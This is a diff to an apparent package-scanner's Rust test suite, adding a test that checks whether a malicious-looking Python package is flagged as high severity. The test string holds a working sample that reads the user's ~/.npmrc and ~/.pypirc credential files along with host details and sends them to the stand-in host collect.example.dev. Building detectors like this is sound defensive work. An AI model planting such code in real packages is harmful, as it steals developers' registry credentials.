@@ -62,6 +62,21 @@ fn an_import_that_arranges_its_next_start_is_high() {
 }
 
 #[test]
+fn code_that_resembles_malicious_packages_is_high_and_its_lines_are_named() {
+    let script = "import getpass, json, os, platform, socket, urllib.request\n\ndef _collect():\n    \
+        info = {'user': getpass.getuser(), 'host': socket.gethostname(), 'os': platform.platform()}\n    \
+        for name in ('.npmrc', '.pypirc'):\n        path = os.path.join(os.path.expanduser('~'), name)\n        \
+        if os.path.exists(path):\n            info[name] = open(path).read()\n    return info\n\n\
+        try:\n    data = json.dumps(_collect()).encode()\n    \
+        urllib.request.urlopen(urllib.request.Request('https://collect.example.dev/i', data=data), timeout=3)\n\
+        except Exception:\n    pass\n";
+    let files = [("widgets/__init__.py", script), ("PKG-INFO", "Name: widgets\nVersion: 1.0\n")];
+    assert_failed(&files, "package.payload", Severity::High);
+    let found = contents(&files).payload.unwrap();
+    assert!(found.detail.starts_with("widgets/__init__.py lines 1 to "), "{}", found.detail);
+}
+
+#[test]
 fn an_honest_package_fails_no_check() {
     let index = "// Formats numbers with a group separator, by default a comma.\nexport function format(value, mark = ',') {\n  return \
         String(value).replace(/\\B(?=(\\d{3})+$)/g, mark);\n}\n";
